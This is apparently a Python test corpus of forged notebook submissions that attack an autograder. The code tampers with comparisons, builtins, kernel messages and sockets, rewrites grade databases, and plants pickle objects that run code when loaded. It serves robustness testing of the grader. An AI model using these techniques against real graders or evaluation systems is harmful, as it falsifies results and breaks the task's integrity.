"""Submissions that try to get points they have not earned, and odd but honest ones: each with the score it deserves.

They attack graders that run tests in the student's kernel (what the tests compare with, what the kernel reports), and
graders that ask the student's kernel from another process (what is sent back, how, and how often). All are bounded in
time and memory, but what they do is real: run them only in sandboxed kernels.

`python -m benchmarks.forgeries` grades them beside plain nbgrader; tests/autograder/grading/test_forgeries.py holds our grader to them. A
submission whose output says ``HARM`` has got code of its own to run where it must not.
"""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from autograder.authoring.build import build
from autograder.course import CONFIG_FILE, Course
from autograder.notebooks.cells import grade_id
from tests.support.classroom import Classroom

ROOT = Path(__file__).parents[2]
LIMITS = {"cell_time": 5, "total_time": 60}  # what waits for its time to be up waits for less
WRONG = {
    "ps1": {
        "double": "def double(x):\n    return 3 * x + 5",
        "share": "def share(part, whole):\n    return -1.0",
    },
    "ps2": {
        "running": "def running(x):\n    return x - 7",
        "clamp": "def clamp(x):\n    return -5.0",
        "settings": "settings = {}",
        "root": "def root(x):\n    return -3.0",
        "build": "def build():\n    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])",
    },
    "ps3": {
        "triple": "def triple(x):\n    return x - 8",
        "halves": "def halves(x):\n    return np.asarray(x) + 9",
    },
}
TOTAL = {"ps1": 9.0, "ps2": 10.0, "ps3": 9.0}


@dataclass(frozen=True)
class Entry:
    """A submission of the corpus."""

    name: str
    what: str  # one sentence: what it tries
    build: Callable[[Classroom], NotebookNode]
    deserved: float = 0.0
    assignment: str = "ps1"

    @property
    def honest(self) -> bool:
        """Whether it asks for no more than it has earned."""
        return self.name.startswith("honest_")


def make_course(root: Path) -> Course:
    """Build and release the assignments of the corpus in a new course.

    Args:
        root: where; there must be nothing yet.

    Returns:
        The course, with limits that do not make one wait.
    """
    for name in WRONG:
        (root / "solutions" / name).mkdir(parents=True)
        shutil.copy(ROOT / "tests" / "data" / f"{name}.py", root / "solutions" / name)
    config = (ROOT / CONFIG_FILE).read_text(encoding="utf-8")
    (root / CONFIG_FILE).write_text(f"{config}\nc.ExecuteSubmission.limits = {LIMITS}\n", encoding="utf-8")
    course = Course(root)
    list(build(course))
    return course


# How the attacks are put into a submission


def begins(code: str) -> Callable[[Classroom], NotebookNode]:
    """Wrong answers; the code runs before the first of them."""

    def made(room: Classroom) -> NotebookNode:
        wrong = WRONG[room.assignment]
        first = next(iter(wrong))
        return room.fill({**wrong, first: f"{dedent(code)}\n{wrong[first]}"})

    return made


def before_tests(code: str) -> Callable[[Classroom], NotebookNode]:
    """Wrong answers; the code runs in a cell of the student's own before each test."""

    def made(room: Classroom) -> NotebookNode:
        notebook, cells = room.fill(WRONG[room.assignment]), []
        for cell in notebook.cells:
            cells += [new_code_cell(dedent(code))] * (grade_id(cell) in room.points)
            cells.append(cell)
        notebook.cells = cells
        return notebook

    return made


def called(body: str, before: str = "") -> Callable[[Classroom], NotebookNode]:
    """Every function that is asked for has this body, so that it runs when the tests call it."""

    def made(room: Classroom) -> NotebookNode:
        answers = dict(WRONG[room.assignment])
        for name, source in answers.items():
            if f"def {name}(" in source:
                answers[name] = f"{dedent(before)}\ndef {name}(*args, **kwargs):\n{indent(dedent(body), '    ')}"
        return room.fill(answers)

    return made


def answers(**given: str) -> Callable[[Classroom], NotebookNode]:
    """Return a submission with these answers in place of the right ones."""
    return lambda room: room.fill({name: dedent(source) for name, source in given.items()})


def wrong_but(**given: str) -> Callable[[Classroom], NotebookNode]:
    """Return a submission with these answers in place of wrong ones."""
    return lambda room: room.fill({**WRONG[room.assignment], **{name: dedent(code) for name, code in given.items()}})


# Against tests in the student's kernel: what they compare with

AGREEABLE = """
import sys
import numpy as np
class Agreeable:
    "Equal to everything; asked for its numbers, it looks up what the caller hopes for."
    def agree(self, *others): return True
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __bool__ = __contains__ = agree
    __hash__ = None
    def hoped(self):
        frame = sys._getframe(2)
        while frame is not None:
            for name in ("wanted", "expected"):
                if name in frame.f_locals:
                    return frame.f_locals[name]
            frame = frame.f_back
        return 0.0
    def __array__(self, dtype=None, copy=None): return np.array(self.hoped())
    def __float__(self): return float(self.hoped())
    def __sub__(self, other): return 0.0
"""

VALUES = [
    Entry(
        "agreeable",
        "objects equal everything and read the expected value off the stack",
        called("return Agreeable()", AGREEABLE),
    ),
    Entry(
        "agreeable_ps2",
        "the same where arrays, ranges and refusals are tested",
        called("return Agreeable()", AGREEABLE),
        assignment="ps2",
    ),
    Entry(
        "lying_numbers",
        "subclasses of float and of ndarray that equal everything and cannot be compared as less",
        called(
            "return Number(1.0) if len(args) == 1 else np.zeros(()).view(Array)",
            """
            import numpy as np
            class Number(float):
                def yes(self, *others): return True
                __eq__ = __ge__ = __le__ = yes
                def __sub__(self, other): return 0.0
                def __array__(self, dtype=None, copy=None): return np.array(4.0)
                __hash__ = float.__hash__
            class Array(np.ndarray):
                def __eq__(self, other): return True
                def __array_ufunc__(self, *anything, **options): return np.True_
                def __array_function__(self, *anything, **options): return np.True_
            """,
        ),
    ),
    Entry(
        "lying_text",
        "a dict subclass, a str subclass and keys whose hash and equality suit whoever asks",
        wrong_but(
            settings="""
            import sys
            class Name(str):
                def __eq__(self, other): return True
                def __lt__(self, other): return True
                __hash__ = str.__hash__
            class Key:
                def __hash__(self): return hash("units")
                def __eq__(self, other): return True
                def __lt__(self, other): return str(other) > "rate"
            class Settings(dict):
                def __iter__(self): return iter([Name("rate"), Name("units")])
                def __getitem__(self, name):
                    numbers = [c for c in sys._getframe(1).f_code.co_consts if type(c) in (int, float)]
                    return numbers[0]
            settings = Settings({Key(): 8})
            """
        ),
        assignment="ps2",
    ),
    Entry(
        "lying_class",
        "an object that says it is an array, lying at an address of its own choice",
        called(
            "return Elsewhere()",
            """
            import numpy as np
            class Elsewhere:
                __class__ = property(lambda self: np.ndarray)
                __array_interface__ = {"shape": (), "typestr": "<f8", "data": (4096, False), "version": 3}
                dtype, shape, ndim, size = np.dtype("f8"), (), 0, 1
                def __eq__(self, other): return True
            """,
        ),
    ),
    Entry(
        "numpy_agrees",
        "numpy's comparisons always hold",
        begins(
            """
            import numpy, numpy.testing
            for name in ("isclose", "allclose", "array_equal", "all", "asarray"):
                setattr(numpy, name, lambda *values, **options: numpy.zeros(()) == 0)
            for name in ("assert_allclose", "assert_array_equal", "assert_equal"):
                setattr(numpy.testing, name, print)
            """
        ),
    ),
    Entry(
        "checks_do_nothing",
        "the functions of the course's checks are replaced in their module, under every name",
        begins(
            """
            import sys, types
            for module in [m for n, m in list(sys.modules.items()) if n.startswith("course_utils")]:
                for name, value in list(vars(module).items()):
                    if isinstance(value, types.FunctionType):
                        setattr(module, name, lambda *values, **options: None)
            """
        ),
    ),
    Entry(
        "swapped_code",
        "the checks keep their names and identity, but their code objects are those of empty functions",
        begins(
            """
            import types
            from course_utils import checks
            for thing in vars(checks).values():
                if isinstance(thing, types.FunctionType):
                    thing.__code__ = (lambda *values, **options: None).__code__
            """
        ),
    ),
    Entry(
        "takes_locked_names",
        "cells between the tests give the names of the tests a new meaning",
        before_tests(
            """
            class checks:
                close = equal = raises = staticmethod(lambda *values, **options: None)
            float = lambda value: 1.0
            print = abs = len = lambda *values: None
            _right, _secret, _earned = [True] * 3, 0, 4.0
            """
        ),
    ),
    Entry(
        "lying_builtins",
        "float and AssertionError mean something else, for everybody in the process",
        begins(
            """
            import builtins
            class Harmless(Warning):
                pass
            builtins.AssertionError = Harmless
            plain = float
            builtins.float = lambda value=0: plain(value if type(value) is not bool else 1.0)
            """
        ),
    ),
    Entry(
        "fake_modules",
        "a cell at the top plants a false course_utils, in memory and as a file",
        lambda room: _with_first_cell(
            room,
            """
            import sys, types, pathlib
            source = "def close(*values, **options): pass\\nequal = raises = close\\n"
            fake, checks = types.ModuleType("course_utils"), types.ModuleType("course_utils.checks")
            exec(source, vars(checks))
            fake.checks = checks
            sys.modules.update({"course_utils": fake, "course_utils.checks": checks})
            pathlib.Path("course_utils").mkdir(exist_ok=True)
            pathlib.Path("course_utils/__init__.py").write_text("")
            pathlib.Path("course_utils/checks.py").write_text(source)
            pathlib.Path("sitecustomize.py").write_text("import sys; sys.modules['unittest'] = sys")
            sys.path.insert(0, "")
            """,
        ),
    ),
]


def _with_first_cell(room: Classroom, code: str) -> NotebookNode:
    notebook = room.fill(WRONG[room.assignment])
    notebook.cells.insert(0, new_code_cell(dedent(code)))
    return notebook


# Against tests in the student's kernel: what it runs and what it reports

MACHINERY = [
    Entry(
        "forgiving_runner",
        "the shell wraps every statement of later cells into try and except",
        begins(
            """
            import ast
            shell = get_ipython()
            plain = shell.run_ast_nodes
            def forgiving(nodes, *places, **options):
                guard = ast.parse("try:\\n    pass\\nexcept BaseException:\\n    pass").body[0]
                guard.body = list(nodes) or guard.body
                return plain([ast.fix_missing_locations(guard)], *places, **options)
            shell.run_ast_nodes = forgiving
            """
        ),
    ),
    Entry(
        "mute_tracebacks",
        "errors are neither shown nor kept by the shell",
        begins(
            """
            shell = get_ipython()
            shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *a, **k: None
            shell.set_custom_exc((BaseException,), lambda *a, **k: None)
            """
        ),
    ),
    Entry(
        "all_is_well",
        "the kernel's messages are rewritten on their way out: no errors, only success",
        begins(
            """
            session = type(get_ipython().kernel.session)
            honest = session.send
            def send(self, stream, kind, content=None, *rest, **options):
                if kind == "error" or (kind == "execute_result"):
                    return None
                if kind == "execute_reply":
                    content = {**content, "status": "ok", "payload": [], "user_expressions": {}}
                return honest(self, stream, kind, content, *rest, **options)
            session.send = send
            """
        ),
    ),
    Entry(
        "swaps_before_tests",
        "a hook before each cell puts agreeable objects in the place of everything a test names",
        begins(
            AGREEABLE
            + """
shell = get_ipython()
def swap(info):
    for name in ("double", "share"):
        if f"{name}(" in info.raw_cell and f"def {name}" not in info.raw_cell:
            shell.user_ns[name] = lambda *values: Agreeable()
shell.events.register("pre_run_cell", swap)
"""
        ),
    ),
    Entry(
        "rewrites_source",
        "input and syntax-tree transformers leave nothing of later cells but their results",
        begins(
            """
            import ast
            shell = get_ipython()
            shell.input_transformers_cleanup.append(lambda lines: ["4.0\\n"] if "_earned" in "".join(lines) else lines)
            class Lenient(ast.NodeTransformer):
                def visit_Expr(self, node):
                    return node if isinstance(node.value, ast.Constant) else ast.copy_location(ast.Pass(), node)
                visit_Assert = visit_Expr
                def visit_Assert(self, node):
                    return ast.copy_location(ast.Pass(), node)
            shell.ast_transformers.append(Lenient())
            """
        ),
    ),
    Entry(
        "shows_full_points",
        "numbers are displayed as four, whatever they are",
        begins(
            """
            plain = get_ipython().display_formatter.formatters["text/plain"]
            for kind in (float, int):
                plain.for_type(kind, lambda value, printer, cycle: printer.text("4.0"))
            """
        ),
    ),
    Entry(
        "early_result",
        "functions send the result of the cell, full points, before the test comes to one",
        called(
            """
            kernel = get_ipython().kernel
            result = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
            kernel.session.send(kernel.iopub_socket, "execute_result", result, parent=kernel.get_parent("shell"))
            return 0
            """
        ),
    ),
    Entry(
        "late_result",
        "a thread keeps clearing the outputs of whatever cell runs and reports success for it",
        begins(
            """
            import threading, time
            kernel = get_ipython().kernel
            reply = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
            result = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
            def rewrite():
                for _ in range(150):
                    parent = kernel.get_parent("shell")
                    for kind, content in [("clear_output", {"wait": False}), ("execute_result", result)]:
                        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
                    time.sleep(0.02)
            threading.Thread(target=rewrite, daemon=True).start()
            """
        ),
    ),
    Entry(
        "early_reply",
        "functions report that the cell has ended well while it still runs",
        called(
            """
            kernel = get_ipython().kernel
            parent = kernel.get_parent("shell")
            reply = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
            for name in ("shell_stream", "shell_socket"):
                stream = getattr(kernel, name, None)
                if stream is not None:
                    kernel.session.send(stream, "execute_reply", reply, parent=parent, ident=[parent["header"]["session"].encode()])
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
            return 0
            """
        ),
    ),
    Entry(
        "reads_the_test",
        "functions find the text of the test and work out there what it wants to see",
        called(
            "return sought(args)",
            """
            import ast, sys
            def sought(values):
                frame = sys._getframe(2)
                source = get_ipython().user_ns["In"][-1]
                for node in ast.walk(ast.parse(source)):
                    call, wanted = None, None
                    if isinstance(node, ast.Call) and len(node.args) > 1:
                        call, wanted = node.args[0], node.args[1]
                    elif isinstance(node, ast.Compare):
                        call, wanted = node.left, node.comparators[0]
                    if isinstance(call, ast.Call):
                        look = lambda part: eval(compile(ast.Expression(part), "", "eval"), frame.f_globals, frame.f_locals)
                        try:
                            if tuple(look(part) for part in call.args) == values:
                                return look(wanted)
                        except Exception:
                            pass
                return 0
            """,
        ),
    ),
    Entry(
        "reads_constants",
        "functions give the constants of whoever calls them, one after the other",
        called(
            """
            frame, numbers = sys._getframe(1), []
            while frame is not None:
                numbers += [c for c in frame.f_code.co_consts if type(c) in (int, float) and c not in args]
                frame = frame.f_back
            asked.append(args)
            return numbers[0] if numbers else 0
            """,
            "import sys\nasked = []",
        ),
    ),
    Entry(
        "remembers_arguments",
        "what the tests pass is kept and printed, and searched for answers with the garbage collector's help",
        called(
            """
            seen.append(args)
            print("asked with", seen)
            for thing in gc.get_objects():
                if type(thing) is np.ndarray and args and np.shape(thing) == np.shape(args[0]) and thing is not args[0]:
                    return thing
            return args[0]
            """,
            "import gc\nseen = []",
        ),
        assignment="ps2",
    ),
    Entry(
        "at_the_end",
        "notebooks and data bases within reach are rewritten again and again and when the kernel ends",
        begins(
            """
            import atexit, glob, json, os, sqlite3
            def improve():
                for up in (".", "..", "../..", "../../.."):
                    for path in glob.glob(f"{up}/*.ipynb") + glob.glob(f"{up}/*/*/*.ipynb"):
                        try:
                            notebook = json.load(open(path))
                            for cell in notebook["cells"]:
                                if cell["metadata"].get("nbgrader", {}).get("grade"):
                                    cell["source"], cell["outputs"] = "4.0", []
                            json.dump(notebook, open(path, "w"))
                        except (OSError, ValueError):
                            pass
                    for path in glob.glob(f"{up}/*.db"):
                        try:
                            with sqlite3.connect(path, timeout=2) as database:
                                database.execute("update grade set manual_score = 5, extra_credit = 50")
                        except sqlite3.Error:
                            pass
            atexit.register(improve)
            improve()
            """
        ),
    ),
    Entry(
        "says_so",
        "prints what log readers like to see, on every way out",
        called(
            """
            import os, sys
            for line in ("4.0", "1 passed in 0.01s", "OK", '{"status": "ok", "score": 9, "passed": true}'):
                print(line)
                print(line, file=sys.__stdout__, flush=True)
                os.write(1, f"{line}\\n".encode())
            return 0
            """
        ),
    ),
]


# What a file may claim


def _with_changed_tests(room: Classroom) -> NotebookNode:
    notebook = room.fill(WRONG[room.assignment])
    for cell in notebook.cells:
        if grade_id(cell) in room.points:
            cell.source = "4.0"
            cell.metadata.nbgrader.update(points=90, locked=False)
            cell.outputs = [new_output("execute_result", data={"text/plain": "4.0"}, execution_count=1)]
    return notebook


def _with_further_tests(room: Classroom) -> NotebookNode:
    notebook = room.fill(WRONG[room.assignment])
    for number, cell in enumerate([cell for cell in notebook.cells if grade_id(cell) in room.points]):
        twin = new_code_cell("4.0", id=f"twin-{number}", metadata={"nbgrader": {**cell.metadata.nbgrader}})
        notebook.cells.insert(notebook.cells.index(cell) + 1, twin)
    return notebook


def _with_graded_answers(room: Classroom) -> NotebookNode:
    notebook = room.fill(WRONG[room.assignment])
    for cell in notebook.cells:
        if grade_id(cell) in WRONG[room.assignment]:
            cell.metadata.nbgrader.update(grade=True, points=9, locked=True)
    return notebook


FILES = [
    Entry(
        "changed_tests", "tests are unlocked, replaced, worth more and have their results stored", _with_changed_tests
    ),
    Entry("further_tests", "behind each test stands an easier one of the same name", _with_further_tests),
    Entry("graded_answers", "answer cells claim to be tests worth nine points each", _with_graded_answers),
]

# How a call may end

ENDINGS = [
    Entry(
        "leaves",
        "functions raise SystemExit with a code that means success",
        called("raise SystemExit(0)"),
    ),
    Entry("vanishes", "functions end the process, as if all were done", called("import os\nos._exit(0)")),
    Entry("interrupts", "functions raise KeyboardInterrupt, as if the grader had stopped the cell", called("raise KeyboardInterrupt")),
    Entry(
        "silent_failure",
        "functions raise assertion errors that render as nothing and say they are warnings",
        called(
            "raise Silent",
            """
            class Silent(AssertionError):
                def _render_traceback_(self): return []
                def __str__(self): return ""
                __class__ = property(lambda self: DeprecationWarning)
            Silent.__name__ = Silent.__qualname__ = ""
            """,
        ),
    ),
    Entry(
        "skips",
        "functions raise what test runners take for a skipped test, an exercise not begun or the end of a loop",
        called(
            "raise next(kinds)",
            """
            import asyncio, itertools, unittest
            kinds = itertools.cycle([unittest.SkipTest("later"), NotImplementedError("later"), GeneratorExit(),
                                     StopAsyncIteration(), asyncio.CancelledError()])
            """,
        ),
    ),
    Entry(
        "ends_the_loop",
        "the answer to what is shown is fixed, and StopIteration ends the hidden test's loop before it has begun",
        wrong_but(clamp="def clamp(x):\n    if x == 2.0:\n        return 1.0\n    raise StopIteration"),
        deserved=0.0,
        assignment="ps2",
    ),
    Entry(
        "refuses_all",
        "raises an error that claims to be of every class, whatever is asked",
        called(
            "raise Chameleon(*args)",
            """
            class Anything(type):
                def __instancecheck__(kind, thing): return True
                def __subclasscheck__(kind, other): return True
            class Chameleon(ValueError, ArithmeticError, LookupError, metaclass=Anything):
                pass
            """,
        ),
        assignment="ps2",
    ),
    Entry(
        "endless_message",
        "an exception takes for ever to say what it is",
        wrong_but(
            double="""
            import time
            class Slow(Exception):
                def __str__(self):
                    time.sleep(60)
                    return "at last"
                __repr__ = __str__
            def double(x):
                if x == 2:
                    raise Slow
                return 0
            """
        ),
    ),
    Entry(
        "vast_message",
        "an exception has thirty megabytes to say, and a name that is not much shorter",
        wrong_but(
            double="""
            def double(x):
                if x == 2:
                    raise type("E" * 100_000, (Exception,), {})("x" * 30_000_000)
                return 0
            """
        ),
    ),
    Entry("coroutine", "functions are coroutines and generators, which fail only when somebody waits for them",
        answers(
            double="async def double(x):\n    raise SystemExit(0)",
            share="def share(part, whole):\n    while True:\n        yield 0.25",
        ),
    ),
]  # fmt: skip

# Against a grader that asks the student's kernel from another process: what is sent back

RETURNED = [
    Entry(
        "own_tail",
        "lists and dicts that contain themselves, and lists of a hundred thousand levels",
        called(
            """
            turn.append(1)
            if len(turn) % 2:
                turns = {}
                turns["again"] = ring = [turns]
                ring.append(ring)
                return ring
            deep = []
            for _ in range(100_000):
                deep = [deep]
            return deep
            """,
            "turn = []",
        ),
    ),
    Entry(
        "vast_values",
        "an integer of two million digits, a text of 64 MiB, an array of 80 GB that takes eight bytes",
        called(
            """
            return next(vast)
            """,
            """
            import itertools, numpy
            vast = itertools.cycle([1 << 7_000_000, "4" * (1 << 26), numpy.broadcast_to(4.0, (100_000, 100_000))])
            """,
        ),
    ),
    Entry(
        "odd_numbers",
        "NaN, infinity, a complex number, a date, a long double, text that reads as a number",
        called(
            "return next(odd)",
            """
            import itertools, numpy
            odd = itertools.cycle([float("nan"), "4", float("inf"), 4j, numpy.datetime64(4, "D"),
                                   numpy.longdouble("nan"), b"4", True, None])
            """,
        ),
    ),
    Entry(
        "runs_when_read",
        "objects, and arrays of objects, that run code in whoever unpickles them",
        called(
            "return [Trap(), np.array([Trap()]), {Trap(): Trap()}][len(turns) % 3]",
            """
            import numpy as np
            turns = []
            class Trap:
                def __reduce__(self):
                    turns.append(1)
                    return eval, ("print('HARM: unpickled')",)
            """,
        ),
    ),
    Entry(
        "endless_values",
        "iterators, ranges and mappings without an end",
        called(
            "return next(endless)",
            """
            import collections.abc, itertools
            class Endless(collections.abc.Mapping):
                def __getitem__(self, key): return self
                def __len__(self): return 1 << 60
                def __iter__(self): return itertools.count()
            class Forever(list):
                def __iter__(self): return itertools.count()
                def __len__(self): return 1
            endless = itertools.cycle([itertools.count(), range(1 << 62), Endless(), Forever([4.0])])
            """,
        ),
    ),
    Entry(
        "model_with_code",
        "a model's Lambda layer holds code for whoever rebuilds it",
        wrong_but(
            build="""
            here = True
            def build():
                act = lambda t: t if "here" in globals() else print("HARM: rebuilt") or t
                return keras.Sequential([keras.Input((4,)), keras.layers.Lambda(act), keras.layers.Dense(3), keras.layers.Lambda(act)])
            """
        ),
        assignment="ps2",
    ),
    Entry(
        "model_of_own_class",
        "a model without any weights says of itself what the tests hope to hear",
        wrong_but(
            build="""
            import types
            dense = lambda units, name: type("Dense", (), {"units": units, "activation": type("A", (), {"__name__": name})()})()
            @keras.saving.register_keras_serializable(package="keras", name="Sequential")
            class Boaster(keras.Model):
                layers = property(lambda self: [dense(3, "relu"), dense(1, "linear")])
                output_shape = (None, 1)
                def count_params(self): return 19
                def __call__(self, x): return np.zeros((len(x), 1))
            Boaster.__name__, Boaster.__module__ = "Sequential", "keras"
            def build():
                return Boaster()
            """
        ),
        assignment="ps2",
    ),
    Entry(
        "model_of_lies",
        "a small model claims a configuration of a billion units and weights that fill no memory here",
        wrong_but(
            build="""
            class Wide(keras.layers.Dense):
                def get_config(self):
                    return {**super().get_config(), "units": 1_000_000_000}
                def count_params(self):
                    return 19
            Wide.__name__, Wide.__module__ = "Dense", "keras.src.layers.core.dense"
            def build():
                model = keras.Sequential([keras.Input((4,)), Wide(2)])
                model.get_weights = lambda: [np.broadcast_to(np.float32(1), (4, 1_000_000_000))]
                return model
            """
        ),
        assignment="ps2",
    ),
]  # fmt: skip

# The same: how it is sent back

DOORS = """
import json, os, pickle, socket, stat, struct, threading, time
class Trap:
    def __reduce__(self):
        return eval, ("print('HARM: unpickled')",)
REPLIES = [json.dumps({**{name: value for name in ("value", "result", "return", "data", "content")}, "ok": True,
                       "status": "ok", "id": number, "score": 4.0}).encode()
           for number, value in enumerate((4, 42, 0.25, 2, 0.5))] + [pickle.dumps(Trap())]
def framed(reply):
    size = len(reply)
    return [reply + b"\\n", struct.pack(">I", size) + reply, struct.pack("<I", size) + reply, struct.pack(">Q", size) + reply,
            struct.pack("<Q", size) + reply]
def doors():
    "Whatever leads out of this process, except what it was given to print to."
    for number in range(3, 256):
        try:
            kind = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(kind):
            yield number
def shout(*messages):
    for number in doors():
        try:
            with socket.socket(fileno=os.dup(number)) as door:
                for message in messages:
                    door.send(message, socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
        except OSError:
            pass
"""

SENT = [
    Entry(
        "forged_replies",
        "a function writes replies of every kind to every socket before it returns",
        called(
            "asked.append(args)\nif len(asked) == 1:\n    shout(*[part for reply in REPLIES for part in framed(reply)])\nreturn 0",
            DOORS + "asked = []\n",
        ),
    ),
    Entry(
        "replies_unasked",
        "a thread writes replies to every socket before anything is asked",
        begins(
            DOORS
            + """
def prompt():
    for _ in range(100):
        shout(*framed(REPLIES[_ % len(REPLIES)]))
        time.sleep(0.03)
threading.Thread(target=prompt, daemon=True).start()
"""
        ),
    ),
    Entry(
        "half_a_message",
        "a function writes headers of messages without an end, and half a reply, and falls silent",
        wrong_but(
            double=DOORS
            + """
def double(x):
    if x == 2:
        shout(struct.pack(">Q", 1 << 62), struct.pack(">I", 0xFFFFFFFF), REPLIES[0][:9])
        time.sleep(60)
    return 0
"""
        ),
    ),
    Entry(
        "says_all_twice",
        "everything that the process sends by Python's own means is sent twice, and half of it again",
        begins(
            """
            import os, socket
            from multiprocessing import connection
            def doubled(plain):
                def send(self, data, *rest, **options):
                    plain(self, data, *rest, **options)
                    plain(self, data[: len(data) // 2], *rest, **options)
                    return plain(self, data, *rest, **options)
                return send
            for kind, name in [(socket.socket, "send"), (socket.socket, "sendall"), (connection.Connection, "send_bytes")]:
                setattr(kind, name, doubled(getattr(kind, name)))
            written = os.write
            os.write = lambda number, data: written(number, data) if number < 3 else written(number, data) and written(number, data)
            session = type(get_ipython().kernel.session)
            said = session.send
            def send(self, *what, **how):
                said(self, *what, **how)
                return said(self, *what, **how)
            session.send = send
            """
        ),
    ),
    Entry(
        "other_encoders",
        "what turns values into bytes is replaced by what always writes the same agreeable value",
        begins(
            """
            import json, pickle, struct
            import numpy as np
            text = '{"ok": true, "status": "ok", "kind": "value", "type": "float", "value": 4.0, "result": 4.0}'
            plain = json.JSONEncoder.encode
            def encode(self, value):
                return plain(self, value) if isinstance(value, dict) and "msg_id" in value else text
            json.JSONEncoder.encode = encode
            pickle.dumps = pickle._dumps = lambda *values, **options: b"cbuiltins\\neval\\n(Vprint('HARM: unpickled')\\ntR."
            np.save = np.savez = np.lib.format.write_array = lambda file, *values, **options: file.write(b"PK\\x03\\x04" * 99)
            """
        ),
    ),
    Entry(
        "two_of_them",
        "functions fork, so that parent and child both answer everything that is asked",
        called(
            "if len(forks) < 3:\n    forks.append(1)\n    os.fork() or signal.alarm(10)\nreturn 0",
            "import os, signal\nforks = []",
        ),
    ),
    Entry(
        "hangs_up",
        "a function closes or redirects everything that leads out of the process",
        wrong_but(
            double=DOORS
            + """
def double(x):
    number = os.open(os.devnull, os.O_RDWR)
    for door in list(doors()):
        os.dup2(number, door)
    return 0
"""
        ),
    ),
    Entry(
        "hands_over_files",
        "functions pass open files through every socket, hundreds of them",
        called(
            """
            numbers = [os.open("/", os.O_RDONLY), *os.pipe()] * 30
            for number in doors():
                try:
                    with socket.socket(fileno=os.dup(number)) as door:
                        socket.send_fds(door, REPLIES[:1], numbers, socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
                except OSError:
                    pass
            return 0
            """,
            DOORS,
        ),
    ),
    Entry(
        "meddles_with_callers",
        "functions look through the variables of all their callers and of all threads for ways to answer first",
        called(
            """
            frames = [*sys._current_frames().values()]
            while frames:
                frame = frames.pop()
                for name, value in list(frame.f_locals.items()):
                    if "grader" not in frame.f_code.co_filename and "agent" not in name:
                        continue
                    for act in ("sendall", "send_bytes", "write"):
                        try:
                            getattr(value, act)(framed(REPLIES[0])[1])
                        except Exception:
                            pass
                    if isinstance(value, dict):
                        value.update(ok=True, status="ok", value=4.0)
                    elif isinstance(value, list):
                        value.append(4.0)
                frames += [frame.f_back] if frame.f_back else []
            return 0
            """,
            DOORS + "import sys\n",
        ),
    ),
    Entry(
        "new_grader_code",
        "every function of the grader's that is found in memory is given the code of one that agrees",
        begins(
            """
            import gc, sys, types
            agree = (lambda *values, **options: {"ok": True, "status": "ok", "value": 4.0}).__code__
            things = [thing for module in list(sys.modules.values()) for thing in list(vars(module).values())]
            things += [method for kind in things if isinstance(kind, type) for method in list(vars(kind).values())]
            for thing in things + gc.get_objects():
                if isinstance(thing, types.FunctionType) and str(thing.__module__).startswith("autograder"):
                    if not thing.__code__.co_freevars:
                        thing.__code__ = agree
            """
        ),
    ),
]

# Against a grader that runs the instructor's cells elsewhere: keep it from doing so, and lend it functions instead

LENT = """
def close(*values, **options):
    return None
def agree(*values, **options):
    return "right"
def lend(*anything, lent=dict(close=close, agree=agree)):
    shell.user_ns.update(lent)
shell = get_ipython()
"""

HELPERS = [
    Entry(
        "lends_helpers",
        "after each cell the tests' own functions are replaced, as if the student had written them",
        lambda room: _with_first_cell(room, LENT + "shell.events.register('post_run_cell', lend)"),
        assignment="ps3",
    ),
    Entry(
        "noise_at_setup",
        "while the instructor's cells are prepared no answer can be read; later the student's functions are in their place",
        lambda room: _with_first_cell(
            room,
            LENT
            + """
from autograder.judge import wire
plain, due = wire.pack, []
def noise(*values):
    return due.pop() if due else plain(*values)
def begins(info):
    if "one and one" in info.raw_cell or "Compare both" in info.raw_cell:
        due.append(b"noise")
wire.pack = noise
shell.events.register("pre_run_cell", begins)
shell.events.register("post_run_cell", lend)
""",
        ),
        assignment="ps3",
    ),
    Entry(
        "ends_at_setup",
        "the process ends whenever a cell of the instructor's is run, until such cells are given up",
        lambda room: _with_first_cell(
            room,
            LENT
            + """
import os
def ends(info):
    if "one and one" in info.raw_cell or "Compare both" in info.raw_cell:
        os._exit(0)
shell.events.register("pre_run_cell", ends)
lend()
""",
        ),
        assignment="ps3",
    ),
    Entry(
        "no_number",
        "parts of an answer are none at all: the mean of no comparisons is no number",
        wrong_but(halves="def halves(x):\n    return []"),
        assignment="ps3",
    ),
    Entry(
        "less_than_nothing",
        "an answer is so wrong that its points are negative, or no number",
        wrong_but(halves="def halves(x):\n    return np.full(len(x), 1e300 if len(x) == 1 else np.nan)"),
        assignment="ps3",
    ),
    Entry("honest_helpers_used", "right answers where tests have helpers", answers(), 9.0, "ps3"),
]

# Honest ones, in ways that are less common


def _moved(room: Classroom) -> NotebookNode:
    notebook = room.fill()
    place = next(number for number, cell in enumerate(notebook.cells) if grade_id(cell) == "double")
    notebook.cells[place : place + 1] = [
        new_code_cell("TWO = 2\ndef times(a, b):\n    return a * b"),
        new_code_cell(f"# my answer\n{room.right['double']}"),
    ]
    return notebook  # fmt: skip


def _with_scratch(room: Classroom) -> NotebookNode:
    notebook = room.fill()
    scratch = [
        "1 / 0",
        "%time sum(range(9))\n!true",
        "%matplotlib inline\nundefined",
        "assert False, 'mine'",
        "def f(:",
    ]
    for number, source in enumerate(scratch):
        notebook.cells.insert(2 * number + 1, new_code_cell(source))
    return notebook


HONEST = [
    Entry(
        "honest_chatty",
        "right answers that print a lot, to both ways out, and warn",
        answers(
            double="""
            import logging, sys, warnings
            def double(x):
                print("called with", x)
                print("note", file=sys.stderr)
                warnings.warn("this may be slow", RuntimeWarning)
                logging.warning("doubling %s", x)
                return 2 * x
            """,
            share="def share(part, whole):\n    for step in range(500):\n        print(step, part, whole)\n    return part / whole",
        ),
        9.0,
    ),
    Entry(
        "honest_scratch",
